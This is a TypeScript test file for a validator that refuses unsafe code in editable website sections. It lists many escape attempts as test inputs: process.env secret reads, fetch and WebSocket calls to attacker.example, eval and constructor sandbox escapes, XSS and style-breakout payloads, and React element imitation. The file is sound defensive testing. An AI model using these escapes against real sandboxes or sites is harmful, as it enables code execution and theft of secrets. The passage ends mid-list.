import fs from 'node:fs';
import path from 'node:path';
import { EDITABLE_FILES, type EditableFilePath } from '@cedar/api-contract';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { findRepoRoot } from '../lib/repo-root';
import { buildLoggedIn, type LoggedIn, type TestApp } from '../test/build';
import { HERO, saveHero } from '../test/per-test';
import { checkSection, TOO_DEEP } from './section-check';

const repoRoot = findRepoRoot()!;
const shipped = (file: EditableFilePath) => fs.readFileSync(path.join(repoRoot, file), 'utf8');

/** A hero section whose body starts with `code` (line 4), placed where a real edit would put it. */
const hero = (code: string, imports = "import { Box } from '@mantine/core';\n") =>
  `${imports}\nexport function HeroSection() {\n  ${code}\n  return <Box>Cedar Bluff Labradors</Box>;\n}\n`;
const CODE_LINE = 4;

/** Where the offence of a corpus entry is: the code in the body, the first line, or after the body. */
type At = 'code' | 'top' | 'after';

/**
 * The escape corpus of the earlier, forbidding check (decision 007): ways an edited section could
 * try to reach the server when the rebuild runs it. The allowing check refuses every one.
 */
const EARLIER_ESCAPES: [label: string, source: string, at: At][] = [
  ['reads the environment', hero('const secret = process.env.ADMIN_PASSWORD;'), 'code'],
  ['process through globalThis', hero("const p = globalThis['process'];"), 'code'],
  ['global (Node)', hero('const p = global.process;'), 'code'],
  ['window', hero('const w = window;'), 'code'],
  ['self', hero('const s = self;'), 'code'],
  ['document', hero("document.cookie = 'x';"), 'code'],
  ['fetch', hero("fetch('http://attacker.example/?d=1');"), 'code'],
  ['XMLHttpRequest', hero('const x = new XMLHttpRequest();'), 'code'],
  ['WebSocket', hero("const ws = new WebSocket('ws://attacker.example');"), 'code'],
  ['Buffer', hero("const b = Buffer.from('x');"), 'code'],
  ['module', hero('const m = module;'), 'code'],
  ['__dirname', hero('const d = __dirname;'), 'code'],
  ['require', hero("const fs = require('fs');"), 'code'],
  ['import of a Node module', hero('', "import fs from 'node:fs';\n"), 'top'],
  ['import of child_process', hero('', "import { execSync } from 'child_process';\n"), 'top'],
  ['import of a server file', hero('', "import { loadEnv } from '../../../api/src/env';\n"), 'top'],
  [
    'raw import of the store',
    hero('', "import data from '../../../../data/admins.db?raw';\n"),
    'top',
  ],
  ['re-export from elsewhere', `export * from 'node:os';\n${hero('')}`, 'top'],
  ['import = require', hero('', "import fs = require('fs');\n"), 'top'],
  ['dynamic import()', hero("void import('node:fs');"), 'code'],
  ['import.meta', hero('const u = import.meta.url;'), 'code'],
  ['import.meta.glob', hero("const all = import.meta.glob('/**/*');"), 'code'],
  ['eval', hero("eval('1 + 1');"), 'code'],
  ['indirect eval', hero("(0, eval)('1');"), 'code'],
  ['Function constructor', hero("const f = Function('return this')();"), 'code'],
  ['new Function', hero("const f = new Function('return 1');"), 'code'],
  [
    'constructor of a function',
    hero("const F = (() => 0).constructor('return process')();"),
    'code',
  ],
  ['constructor by quoted key', hero("const F = (() => 0)['constructor'];"), 'code'],
  ['constructor by template key', hero('const F = (() => 0)[`constructor`];'), 'code'],
  ['constructor by destructuring', hero('const { constructor: F } = () => 0;'), 'code'],
  ['constructor by shorthand destructuring', hero('const { constructor } = () => 0;'), 'code'],
  ['__proto__ member', hero('const p = ({}).__proto__;'), 'code'],
  ['__proto__ in a literal', hero('const o = { __proto__: null };'), 'code'],
  ['prototype', hero('const p = Array.prototype;'), 'code'],
  [
    'computed member with a variable key',
    hero("const k = 'constr' + 'uctor';\n  const F = (() => 0)[k];"),
    'code',
  ],
  [
    'computed member with a template key',
    hero("const k = 'x';\n  const v = ({ x: 1 })[`${k}`];"),
    'code',
  ],
  [
    'computed property name from a variable',
    hero("const k = 'x';\n  const o = { [k]: 1 };"),
    'code',
  ],
  ['computed key in destructuring', hero("const k = 'x';\n  const { [k]: v } = { x: 1 };"), 'code'],
  ['with statement', `${hero('')}\nfunction f(o: object) {\n  with (o) {}\n}\n`, 'after'],
  ['this', hero('const g = this;'), 'code'],
  ['arguments', `${hero('')}\nfunction f() {\n  return arguments;\n}\n`, 'after'],
  ['Reflect', hero("const F = Reflect.get(() => 0, 'constructor');"), 'code'],
  ['Object.getPrototypeOf', hero('const p = Object.getPrototypeOf(() => 0);'), 'code'],
  ['Proxy', hero('const p = new Proxy({}, {});'), 'code'],
  ['Error.prepareStackTrace', hero('Error.prepareStackTrace = () => 0;'), 'code'],
  ['setTimeout (a Node global)', hero('setTimeout(() => 0, 1);'), 'code'],
  ['structuredClone (a Node global)', hero('const c = structuredClone({});'), 'code'],
  [
    'a host global shadowed elsewhere',
    `${hero('const e = process.env;')}\nfunction f() {\n  const process = 1;\n  return process;\n}\n`,
    'code',
  ],
  ['an undeclared global', hero('const n = navigator.userAgent;'), 'code'],
  ['a global not on the allowed list', hero('const q = queueMicrotask;'), 'code'],
  ['a class', `${hero('')}\nclass X {}\n`, 'after'],
  ['JSX member tag on window', hero('const el = <window.Foo />;'), 'code'],
  ['typeof process', hero("const t = typeof process === 'object';"), 'code'],
];

function expectRefusedAt(source: string, at: At | number, label = '') {
  const problem = checkSection(HERO, source);
  expect(problem, label).not.toBeNull();
  expect(problem!.message, label).toMatch(/^Line \d+, column \d+: .+\.$/);
  const lines = source.split('\n');
  const line = lines[problem!.line - 1];
  expect(line, label).toBeDefined();
  expect(problem!.column, label).toBeLessThanOrEqual(line!.length + 1);
  if (typeof at === 'number') expect(problem!.line, label).toBe(at);
  else if (at === 'top') expect(problem!.line, label).toBe(1);
  else if (at === 'code') {
    expect(problem!.line, label).toBeGreaterThanOrEqual(CODE_LINE);
    expect(problem!.line, label).toBeLessThan(CODE_LINE + 2);
  } else expect(problem!.line, label).toBeGreaterThan(6);
  return problem!;
}

describe('the section check: what a section may contain (decision 014)', () => {
  it.each(EDITABLE_FILES.map((f) => [f.name, f.path] as const))(
    'passes the shipped %s',
    (_name, file) => {
      expect(checkSection(file, shipped(file))).toBeNull();
    },
  );

  describe('look props: Mantine writes responsive values into a <style> element as they are', () => {
    const section = (
      props: string,
      imports = "import { Box, SimpleGrid } from '@mantine/core';\n",
    ) =>
      `${imports}\nconst copy = { space: 'xl' };\n\nexport function HeroSection() {\n  return <SimpleGrid ${props}><Box>Cedar Bluff</Box></SimpleGrid>;\n}\n`;
    const LINE = 6;

    it('refuses a value that could end the <style> element', () => {
      const breakout = `'</style><meta http-equiv="refresh" content="0;url=https://attacker.example">'`;
      for (const props of [
        `mt={{ base: 1, sm: ${breakout} }}`,
        `spacing={{ base: 'md', sm: ${breakout} }}`,
        `cols={{ base: 1, sm: ${breakout} }}`,
        'mt="</style><b>"',
        `mt={\`</style>\`}`,
        `style={{ color: '</style><b>' }}`,
      ])
        expect(expectRefusedAt(section(props), LINE).message, props).toMatch(/sets the look/);
    });

    it("refuses a name as a look value: the owner's words are data, never CSS", () => {
      for (const props of [
        'mt={copy.space}',
        'cols={{ base: 1, sm: copy.space }}',
        'style={{ color: copy.space }}',
      ])
        expect(expectRefusedAt(section(props), LINE).message, props).toMatch(/sets the look/);
    });

    it('lets literal looks through: numbers, quoted values, arithmetic and responsive objects', () => {
      for (const props of [
        'cols={{ base: 1, sm: 2 }} spacing="lg" mt={-4}',
        "maw={560} p={{ base: 'lg', sm: 'xl' }} style={{ borderRadius: 'var(--mantine-radius-lg)' }}",
        'miw={4 / 3} bg="white"',
      ])
        expect(checkSection(HERO, section(props)), props).toBeNull();
    });
  });

  describe('the earlier escape corpus', () => {
    it.each(EARLIER_ESCAPES)('refuses: %s', (label, source, at) => {
      expectRefusedAt(source, at, label);
    });
  });

  describe("the probe's forms (issue: an admin session cannot plant code)", () => {
    it('refuses an instantiation expression that reaches globalThis', () => {
      expectRefusedAt(hero('const host: any = globalThis<0>;'), CODE_LINE);
      const problem = expectRefusedAt(hero('const host = globalThis<0>;'), CODE_LINE);
      expect(problem.message).toContain('ExpressionWithTypeArguments');
    });

    it('refuses prototype reach through a string: __lookupGetter__ and call', () => {
      const problem = expectRefusedAt(
        hero("const p = ({} as any).__lookupGetter__('__proto__').call({});"),
        CODE_LINE,
      );
      expect(problem.message).toMatch(/'as'|__lookupGetter__|call/);
      // Without the cast, the member itself is refused.
      expect(
        expectRefusedAt(hero("const p = copy.__lookupGetter__('x');"), CODE_LINE).message,
      ).toMatch(/'__lookupGetter__'|call/);
    });

    it('refuses dangerouslySetInnerHTML', () => {
      const source = `import { Box } from '@mantine/core';

export function HeroSection() {
  return <Box dangerouslySetInnerHTML={{ __html: '<img src=x onerror=alert(1)>' }} />;
}
`;
      expect(expectRefusedAt(source, 4).message).toContain("'dangerouslySetInnerHTML'");
      const onElement = source.replace('<Box', '<div');
      expect(expectRefusedAt(onElement, 4).message).toContain("'dangerouslySetInnerHTML'");
    });

    it('refuses an event handler that reaches the window (and the session) through the event', () => {
      const source = `import { Button } from '@mantine/core';

export function HeroSection() {
  return <Button onClick={(e) => e.view.localStorage.getItem('admin-token')}>Go</Button>;
}
`;
      expect(expectRefusedAt(source, 4).message).toContain("'onClick'");
    });

    it('refuses `declare`, which would make a global look declared in the file', () => {
      const source = `import { Box } from '@mantine/core';
declare const process: { env: Record<string, string> };

export function HeroSection() {
  return <Box>{process.env.ADMIN_PASSWORD}</Box>;
}
`;
      expectRefusedAt(source, 2);
    });

    it('refuses a name imported as a type and used as a value (the build would drop the import)', () => {
      const source = `import type { Testimonial } from '@cedar/content';
import { Box } from '@mantine/core';

export function HeroSection() {
  return <Box>{Testimonial}</Box>;
}
`;
      expect(expectRefusedAt(source, 5).message).toContain('imported as a type');
    });

    it('refuses type-level tricks: import types, typeof, any, generics', () => {
      const base = (type: string) => `import { Box } from '@mantine/core';

export function HeroSection(props: ${type}) {
  return <Box>x</Box>;
}
`;
      for (const type of [
        "typeof import('node:fs')",
        'any',
        'unknown',
        'Record<string, string>',
        '{ [key: string]: string }',
        'keyof typeof copy',
        'Parameters<typeof fetch>',
      ])
        expectRefusedAt(base(type), 3, type);
    });

    it('refuses instructions to the build tools in comments', () => {
      for (const comment of [
        '/** @jsxImportSource ../../../api/src */',
        '/* @jsx Function */',
        '// @jsxRuntime classic',
        '//# sourceMappingURL=/etc/passwd',
        '/* @vite-ignore */',
      ]) {
        const problem = expectRefusedAt(`${comment}\n${hero('')}`, 1, comment);
        expect(problem.message).toContain('comment');
      }
      // A comment inside JSX braces is a comment too; a '#' in JSX text is text.
      expect(
        checkSection(
          HERO,
          hero('', "import { Box } from '@mantine/core';\n").replace('Labradors<', '#1 Labradors<'),
        ),
      ).toBeNull();
      const inJsx = hero('').replace('<Box>', '<Box>{/* @jsx eval */}');
      expect(checkSection(HERO, inJsx)?.message).toContain('comment');
    });

    it('refuses hooks: a section holds no state', () => {
      const source = `import { useState } from 'react';
import { Box } from '@mantine/core';

export function HeroSection() {
  return <Box>x</Box>;
}
`;
      expect(expectRefusedAt(source, 1).message).toContain("offers a section no 'useState'");
    });

    it('refuses the Health Testing section with its own popup again (an earlier revision)', () => {
      const earlier = `import { Box, Card, Title } from '@mantine/core';
import { healthCards } from '@cedar/content';
import { useState } from 'react';
import { Popup } from '../components/popup';

export function HealthTestingSection() {
  const [card, setCard] = useState<string | null>(null);
  return (
    <Box component="section">
      {healthCards.map((c) => (
        <Card key={c.id} onClick={() => setCard(c.id)}>
          <Title order={3}>{c.title}</Title>
        </Card>
      ))}
    </Box>
  );
}
`;
      const problem = checkSection('apps/web/src/sections/health-testing-section.tsx', earlier);
      // healthCards is a section's to read now (decision 018); its state is not.
      expect(problem?.line).toBe(3);
      expect(problem?.message).toContain("offers a section no 'useState'");
    });

    it('refuses elements that run or load something: script, style, iframe, img, a, form', () => {
      for (const element of ['script', 'style', 'iframe', 'img', 'a', 'form', 'object', 'svg'])
        expect(
          expectRefusedAt(hero(`const x = <${element}>1</${element}>;`), CODE_LINE, element)
            .message,
        ).toContain(`<${element}>`);
    });

    it("refuses a component rendered as a script (the 'component' prop)", () => {
      expectRefusedAt(hero('const x = <Box component="script">alert(1)</Box>;'), CODE_LINE);
      expectRefusedAt(hero("const x = <Box component={'iframe'} />;"), CODE_LINE);
    });

    it('refuses javascript: and protocol-relative links', () => {
      const link = (href: string) => `import { Anchor } from '@mantine/core';

export function HeroSection() {
  return <Anchor href="${href}">Go</Anchor>;
}
`;
      for (const href of [
        'javascript:alert(1)',
        'JAVASCRIPT:x',
        '//attacker.example',
        'data:text/html,x',
        'https://example.com',
        'http://books.cedarblufflabradors.com/',
        'https://books.cedarblufflabradors.com.attacker.example/',
        'https://books.cedarblufflabradors.com@attacker.example/',
      ])
        expectRefusedAt(link(href), 4, href);
      for (const href of [
        '/contact',
        '/',
        '#top',
        'https://books.cedarblufflabradors.com/the-bluff-way',
        'https://forms.cedarblufflabradors.com',
        'mailto:a@b.c',
        'tel:+15185550100',
      ])
        expect(checkSection(HERO, link(href)), href).toBeNull();
    });

    it('refuses ids that could shadow a global of the page (DOM clobbering)', () => {
      for (const id of ['root', 'hbspt', '__reactRouterContext', 'x'])
        expectRefusedAt(hero(`const x = <Box id="${id}" />;`), CODE_LINE, id);
      expect(checkSection(HERO, hero('const x = <Box id="hero-heading" />;'))).toBeNull();
    });

    it('refuses refs, spread props, className and render functions', () => {
      for (const attribute of [
        'ref={copy}',
        '{...copy}',
        'className="mantine-Button-root"',
        'renderRoot={copy}',
        'styles={copy}',
      ])
        expectRefusedAt(hero(`const x = <Box ${attribute} />;`), CODE_LINE, attribute);
    });

    it('refuses a listed component under another name, which would escape its props list', () => {
      expectRefusedAt(hero('const B = Box;\n  const x = <B component="script">alert(1)</B>;'), 5);
      const viaProps = `import { Box } from '@mantine/core';

function Wrap({ As }: { As: string }) {
  return <As component="script">alert(1)</As>;
}

export function HeroSection() {
  return <Wrap As={Box} />;
}
`;
      expectRefusedAt(viaProps, 4);
    });

    it('refuses forbidden members spelled with escapes', () => {
      const withCopy = (code: string) =>
        hero(code, "import { Box } from '@mantine/core';\nconst copy = { headline: 'Hi' };\n");
      expect(checkSection(HERO, withCopy('const F = copy.\\u0063onstructor;'))?.message).toContain(
        "the member 'constructor'",
      );
      expect(checkSection(HERO, withCopy("const P = copy['\\x5f_proto__'];"))?.message).toContain(
        "'__proto__'",
      );
      expect(checkSection(HERO, withCopy('const F = copy.headline;'))).toBeNull();
    });

    it('refuses calls other than list.map and the listed helpers', () => {
      for (const call of [
        "copy.headline.split(' ')",
        'copy.items.filter((x) => x)',
        'copy.headline.toString()',
        'copy.items.map(copy.x)',
        'copy.items.map(function (x) { return x; })',
        'Math.max(1, 2)',
        'new Date()',
        'String.raw`x`',
        'copy.items.map((x) => x)(1)',
      ])
        expectRefusedAt(hero(`const x = ${call};`), CODE_LINE, call);
    });

    it('refuses functions anywhere but as the argument of .map', () => {
      expectRefusedAt(hero('const f = () => 0;'), CODE_LINE);
      expectRefusedAt(hero('const o = { f() { return 1; } };'), CODE_LINE);
      expectRefusedAt(hero('const o = { get f() { return 1; } };'), CODE_LINE);
      expectRefusedAt(`${hero('')}\nasync function f() {}\n`, 'after');
      expectRefusedAt(`${hero('')}\nfunction* f() {}\n`, 'after');
    });

    it('refuses statements beyond const, if-return and return', () => {
      for (const statement of [
        'let x = 1;',
        'var x = 1;',
        'for (const x of copy.items) {}',
        'while (true) {}',
        'try {} catch {}',
        "throw 'x';",
        'copy.x = 1;',
        'debugger;',
        "'use client';",
      ])
        expectRefusedAt(hero(statement), CODE_LINE, statement);
    });

    it('refuses enums, namespaces, default exports and exported lists', () => {
      for (const top of [
        'enum E { A }',
        'namespace N {}',
        'export default copy;',
        'export { copy };',
        "import './styles.css';",
        "import * as ui from '@mantine/core';",
      ])
        expectRefusedAt(`${top}\n${hero('')}`, 1, top);
    });
  });

  describe("a reviewer's escapes (issue 23, verification)", () => {
    const withParts = (code: string) =>
      hero(
        code,
        "import { Anchor, Box } from '@mantine/core';\nimport { Link } from 'react-router';\nimport { formatAddress } from '@cedar/content';\nconst copy = { headline: 'Hi', items: ['a'] };\n",
      );
    const CODE = CODE_LINE + 3;

    it.each([
      ['satisfies', 'const v = copy satisfies object;'],
      ['an optional call of something not listed', "const v = copy.headline?.('x');"],
      ['new.target', 'const v = new.target;'],
      ['super', 'const v = super.x;'],
      ['a labelled block', 'here: { }'],
      ['with', 'with (copy) { }'],
      ['a setter in an object literal', 'const v = { set x(a: string) { } };'],
      ['a handler spelled with an escape', 'const v = <Box on\\u0043lick={copy} />;'],
      ['a lower-case handler on an element', 'const v = <div onclick="alert(1)" />;'],
      ['<style>', "const v = <style>{'body{}'}</style>;"],
      [
        'a javascript: link in a template',
        'const v = <Anchor href={`javascript:alert(1)`}>x</Anchor>;',
      ],
      ['a global spelled with an escape', 'const v = \\u0070rocess;'],
      [
        'a default parameter of .map calling a global',
        "const v = copy.items.map((x = fetch('x')) => x);",
      ],
      [
        'constructor by destructuring in .map',
        'const v = copy.items.map(({ constructor }) => constructor);',
      ],
      ['an optional chain to constructor', 'const v = copy?.constructor;'],
      ['the comma operator', 'const v = (0, copy.headline);'],
      ['an old-style cast', 'const v = <any>copy;'],
      ['a @ts-ignore comment', '// @ts-ignore\n  const v = copy;'],
      ['a component given as a string template', 'const v = <Box component={`script`} />;'],
    ])('refuses %s', (label, code) => {
      expectRefusedAt(withParts(code), CODE, label);
    });

    it('refuses a default parameter that calls something', () => {
      expectRefusedAt(
        "import { Box } from '@mantine/core';\n\nexport function HeroSection({ a = eval('1') }) {\n  return <Box>{a}</Box>;\n}\n",
        3,
      );
    });

    it('refuses import attributes and deferred imports', () => {
      expectRefusedAt(
        `import { Box } from '@mantine/core' with { type: 'json' };\n${hero('', '')}`,
        1,
      );
      expectRefusedAt(`import defer * as ui from '@mantine/core';\n${hero('', '')}`, 1);
    });

    it('refuses decorators, which call what they name (the check itself, not only the syntax check)', () => {
      for (const [label, source, line] of [
        ['on a function', `${hero('')}\n@process\nfunction X() { return null; }\n`, 8],
        [
          'on the exported component',
          `import { Box } from '@mantine/core';\n@fetch export function HeroSection() { return <Box />; }\n`,
          2,
        ],
        [
          'on a constant',
          `import { Box } from '@mantine/core';\n@fetch const x = 1;\n${hero('', '')}`,
          2,
        ],
        [
          'on a parameter',
          `import { Box } from '@mantine/core';\nexport function HeroSection(@fetch props: string) { return <Box />; }\n`,
          2,
        ],
        ['on an import', `@fetch import { Box } from '@mantine/core';\n${hero('', '')}`, 1],
      ] as const) {
        const problem = checkSection(HERO, source);
        expect(problem, label).not.toBeNull();
        expect(problem!.line, label).toBe(line);
      }
    });

    it('refuses build-tool instructions in a /** */ comment at the end of the file (esbuild obeys them there)', () => {
      const section =
        "import { Box } from '@mantine/core';\n\nexport function HeroSection() {\n  return <Box>x</Box>;\n}\n";
      for (const comment of [
        '/** @jsxRuntime classic @jsx globalThis.process.exit */',
        '/**\n * @jsxImportSource data:text/javascript,export default 1\n */',
        '/** # sourceMappingURL=x */',
      ]) {
        const problem = checkSection(HERO, `${section}${comment}\n`);
        expect(problem, comment).not.toBeNull();
        expect(problem!.line, comment).toBe(6);
        expect(problem!.message, comment).toContain("a comment may not contain '@' or '#'");
      }
      // Text that only looks like a comment, in JSX, is words.
      expect(
        checkSection(HERO, section.replace('<Box>x</Box>', '<Box>// @cedarbluff #1</Box>')),
      ).toBeNull();
    });

    it('refuses links that a browser or the JSX compiler reads as another host', () => {
      const link = (href: string) =>
        `import { Anchor } from '@mantine/core';\n\nexport function HeroSection() {\n  return <Anchor href="${href}">Go</Anchor>;\n}\n`;
      for (const href of [
        '/&#x2F;attacker.example',
        '/&#47;attacker.example',
        '/&sol;attacker.example',
        '/\\attacker.example',
        '/\t/attacker.example',
        '/\n/attacker.example',
      ])
        expectRefusedAt(link(href), 4, JSON.stringify(href));
      expect(checkSection(HERO, link('https://books.cedarblufflabradors.com/?a=1&b=2'))).toBeNull();
      expect(
        checkSection(
          HERO,
          "import { Link } from 'react-router';\n\nexport function HeroSection() {\n  return <Link to={'/\\\\attacker.example'}>Go</Link>;\n}\n",
        ),
      ).not.toBeNull();
    });
  });

  it('names the first offence where it is', () => {
    expect(checkSection(HERO, hero('const secret = process.env.ADMIN_PASSWORD;'))).toEqual({
      message:
        "Line 4, column 18: 'process' is not allowed in a section: use only names declared in this file or imported from an allowed module.",
      line: 4,
      column: 18,
    });
    expect(checkSection(HERO, hero('', "import fs from 'node:fs';\n"))?.message).toMatch(
      /^Line 1, column 1: importing 'node:fs' is not allowed; a section may import from '@mantine\/core'/,
    );
  });

  it('lets ordinary edits through: words, lists, conditions, own components, types', () => {
    const ordinary = `import { Box, Card, Text, Title } from '@mantine/core';
import { homeCopy, site, telHref, type Testimonial } from '@cedar/content';
import type { ReactNode } from 'react';
import { Link } from 'react-router';
import { SiteImage } from '../components/site-image';

// The words of the hero. Edit the text between the quotes.
const copy = {
  headline: 'Cedar Bluff Labradors',
  'tag-line': "English Labradors bred for beauty & temperament — it's our 50th year",
  items: ['Champion bloodlines', 'Holistic care'],
} as const;

type Props = { children?: ReactNode; families?: readonly Testimonial[] };

interface LineProps {
  label: string;
  value: string | null;
}

function Line({ label, value }: LineProps) {
  if (!value) return null;
  return (
    <Text size="sm">
      <strong>{label}:</strong> {value}
    </Text>
  );
}

export function HeroSection({ children, families = [] }: Props) {
  const first = copy.items[0];
  const label = copy['tag-line'];
  const count = families.length;
  return (
    <Box component="section" aria-labelledby="hero-heading" mt={{ base: 8, sm: 16 }}>
      <Title order={1} id="hero-heading">{count > 0 ? copy.headline : first}</Title>
      <p>{label}</p>
      {copy.items.map((item, index) => (
        <Card key={item} component="article" withBorder>
          <span>{index + 1}. {item}</span>
        </Card>
      ))}
      <Line label="Phone" value={site.phones.main} />
      <Text component={Link} to="/contact" c="olive.8">{\`Call \${site.phones.main}\`}</Text>
      <a-not-allowed-anyway />
      <SiteImage src={homeCopy.images.hero} alt={copy.headline} cover />
      {telHref(site.phones.main)}
      {children ?? undefined}
    </Box>
  );
}
`;
    // Everything above is allowed but the custom element, which is refused alone.
    expect(checkSection(HERO, ordinary)?.message).toContain('<a-not-allowed-anyway>');
    expect(checkSection(HERO, ordinary.replace('      <a-not-allowed-anyway />\n', ''))).toBeNull();
  });
});

/**
 * Forbidden forms as expressions, each refused whatever allowed form is wrapped around it.
 * `copy` is a name the host section declares, so the atom's own form is the only offence.
 */
const FORBIDDEN_EXPRESSIONS = [
  'globalThis',
  'globalThis<0>',
  'process.env',
  'window.localStorage',
  'self',
  'document.cookie',
  "eval('1')",
  "Function('return this')",
  "import('node:fs')",
  'import.meta.url',
  "require('node:fs')",
  'new Date()',
  'new copy.constructor()',
  '(() => 0)',
  'copy.constructor',
  "copy['__proto__']",
  "copy.__lookupGetter__('x')",
  'copy.valueOf',
  'copy.toString()',
  'copy.headline.call',
  'copy.headline.apply',
  'copy.headline.bind',
  '(copy as any)',
  'copy!',
  'this',
  'arguments',
  'copy satisfies object',
  "copy.headline?.('x')",
  'new.target',
  'copy?.constructor',
  '<style />',
  '<Anchor href="/&#x2F;attacker.example" />',
  '<Anchor href="/\\attacker.example" />',
  'String.raw`x`',
  'copy[copy.key]',
  'delete copy.x',
  'typeof copy',
  'void 0',
  '(copy.x = 1)',
  'copy.x++',
  "(copy, 'x')",
  "'x' in copy",
  'copy instanceof Object',
  '/x/',
  '10n',
  '{ ...copy }',
  '[...copy.items]',
  '{ get x() { return 1; } }',
  '{ __proto__: copy }',
  '{ [copy.k]: 1 }',
  '<div onClick={copy} />',
  '<div ref={copy} />',
  '<div dangerouslySetInnerHTML={copy} />',
  '<div {...copy} />',
  '<script />',
  '<iframe />',
  '<Box component="script" />',
  '<Box renderRoot={copy} />',
  '<Anchor href="javascript:alert(1)" />',
  '<div id="root" />',
  '<Foo.Bar />',
  '<svg:a />',
  'Reflect',
  'Proxy',
  'setTimeout',
  'queueMicrotask',
  'fetch',
  'Buffer',
  'navigator',
  'location',
  'structuredClone',
  'WebAssembly',
] as const;

/** Allowed forms a forbidden expression can hide in. */
const WRAPPERS: ((inner: string) => string)[] = [
  (x) => `(${x})`,
  (x) => `copy.ok ? ${x} : 'no'`,
  (x) => `copy.ok && ${x}`,
  (x) => `'a' + ${x}`,
  (x) => `\`\${${x}}\``,
  (x) => `[${x}]`,
  (x) => `({ key: ${x} }).key`,
  (x) => `copy.items.map((item) => <span key={item}>{${x}}</span>)`,
  (x) =>
    `copy.items.map((item, index) => { const y = ${x}; return <span key={index}>{y}</span>; })`,
  (x) => `<Box>{${x}}</Box>`,
  (x) => `<Box title={${x}} />`,
  (x) => `<Text c="olive.8"><span>{${x}}</span></Text>`,
  (x) => `!${x}`,
];

/** Places a (wrapped) expression into a shipped-like section, at one of several spots. */
const PLACES: ((expression: string) => string)[] = [
  (x) =>
    hero(
      `const value = ${x};`,
      "import { Anchor, Box, Text } from '@mantine/core';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n",
    ),
  (x) =>
    `import { Anchor, Box, Text } from '@mantine/core';\n\nconst copy = { headline: 'Hi', items: ['a'], value: ${x} };\n\nexport function HeroSection() {\n  return <Box>{copy.headline}</Box>;\n}\n`,
  (x) =>
    `import { Anchor, Box, Text } from '@mantine/core';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection() {\n  return <Box>{${x}}</Box>;\n}\n`,
  (x) =>
    `import { Anchor, Box, Text } from '@mantine/core';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection() {\n  if (${x}) return null;\n  return <Box>{copy.headline}</Box>;\n}\n`,
  (x) =>
    `import { Anchor, Box, Text } from '@mantine/core';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection({ value = ${x} }: { value?: string }) {\n  return <Box>{value}</Box>;\n}\n`,
];

describe('a property: no program built from a forbidden form passes', () => {
  it('refuses every forbidden expression in any allowed wrapping, at any place', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...FORBIDDEN_EXPRESSIONS),
        fc.array(fc.constantFrom(...WRAPPERS), { maxLength: 4 }),
        fc.constantFrom(...PLACES),
        (forbidden, wrappers, place) => {
          const expression = wrappers.reduce<string>((inner, wrap) => wrap(inner), forbidden);
          const source = place(expression);
          const problem = checkSection(HERO, source);
          if (problem === null) throw new Error(`passed:\n${source}`);
        },
      ),
      { numRuns: 3000 },
    );
    // 3,000 checks take 13 s on a quiet 2-core machine; under npm test's load (a load average of
    // 25 was seen) the default 30 s was not enough.
  }, 180_000);

  it('the wrappers and places alone are allowed (the forbidden form is what is refused)', () => {
    for (const place of PLACES)
      for (const wrap of WRAPPERS)
        expect(checkSection(HERO, place(wrap("'fine'"))), place(wrap("'fine'"))).toBeNull();
  });
});

describe('saving a section that breaks the rules', () => {
  let a: (TestApp & LoggedIn) | undefined;
  afterEach(async () => {
    await a?.close();
    a = undefined;
  });

  it('answers 422 with the line and column and leaves the file untouched', async () => {
    a = await buildLoggedIn();
    const before = fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8');
    const res = await saveHero(a, hero('const secret = process.env.ADMIN_PASSWORD;', ''));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({
      error: 'forbidden_code',
      message:
        "Line 3, column 18: 'process' is not allowed in a section: use only names declared in this file or imported from an allowed module.",
      line: 3,
      column: 18,
    });
    expect(fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8')).toBe(before);
    expect(await a.services.store.revisions.list(HERO)).toEqual([]);
  });

  it('refuses code nested too deeply to check with a 422, not a crash (found by hostile-input)', async () => {
    a = await buildLoggedIn();
    const before = fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8');
    // fast-check's counterexample: a text/plain body of thousands of nested brackets.
    for (const source of [
      `${'['.repeat(3000)}1${']'.repeat(3000)}`,
      hero(`const deep = ${'('.repeat(20_000)}1${')'.repeat(20_000)};`),
      hero('', '').replace('<h1>', `${'<b>'.repeat(5000)}<h1>`),
    ]) {
      const res = await saveHero(a, source);
      expect(res.statusCode, source.slice(0, 40)).toBe(422);
      expect(res.json()).toMatchObject({ error: 'forbidden_code', line: expect.any(Number) });
    }
    expect(checkSection(HERO, `${'['.repeat(3000)}1${']'.repeat(3000)}`)).toEqual({
      message: `Line 1, column 1: ${TOO_DEEP}.`,
      line: 1,
      column: 1,
    });
    expect(fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8')).toBe(before);
    expect(await a.services.store.revisions.list(HERO)).toEqual([]);
  });
});

/**
 * Issue 35: a value built to look like one of React's elements (`$$typeof` read from a real
 * element, `type: 'script'`) rendered as a <script> on the live page. The grammar now says what a
 * value is: no name React keeps (`$…`, `_…`), nothing read from an element or a component, no
 * object as content, links checked whatever they are built from, look values that cannot end a
 * CSS declaration.
 */
describe('the section grammar of issue 35', () => {
  const section = (top: string, jsx: string, imports = '') =>
    `import { Anchor, Box, Text } from '@mantine/core';\nimport { Link } from 'react-router';\n${imports}\n${top}\n\nexport function HeroSection() {\n  return (\n    <Box>\n      ${jsx}\n    </Box>\n  );\n}\n`;

  const imitation = (type: string, props: string) =>
    section(
      `const probe = <span />;\nconst payload = { $$typeof: probe.$$typeof, type: '${type}', key: null, ref: null, props: ${props} };`,
      '{payload}',
    );

  it.each([
    ['script', `{ children: "fetch('/api/admin/inquiries/export.csv')" }`],
    ['meta', `{ httpEquiv: 'refresh', content: '0;url=https://attacker.example' }`],
    ['iframe', `{ srcDoc: '<script>alert(1)</script>' }`],
    ['div', `{ dangerouslySetInnerHTML: { __html: '<img src=x onerror=alert(1)>' } }`],
    ['base', `{ href: 'https://attacker.example/' }`],
  ])("refuses the issue's element imitation with type %s", (type, props) => {
    const problem = checkSection(HERO, imitation(type, props));
    expect(problem?.message).toMatch(/'\$\$typeof'|'\$' or '_'/);
    expect(problem?.line).toBe(5);
  });

  const refused: [string, string][] = [
    [
      'a member read with brackets',
      section("const p = <span />;\nconst t = p['$$typeof'];", '{t}'),
    ],
    [
      'a member spelled with a unicode escape',
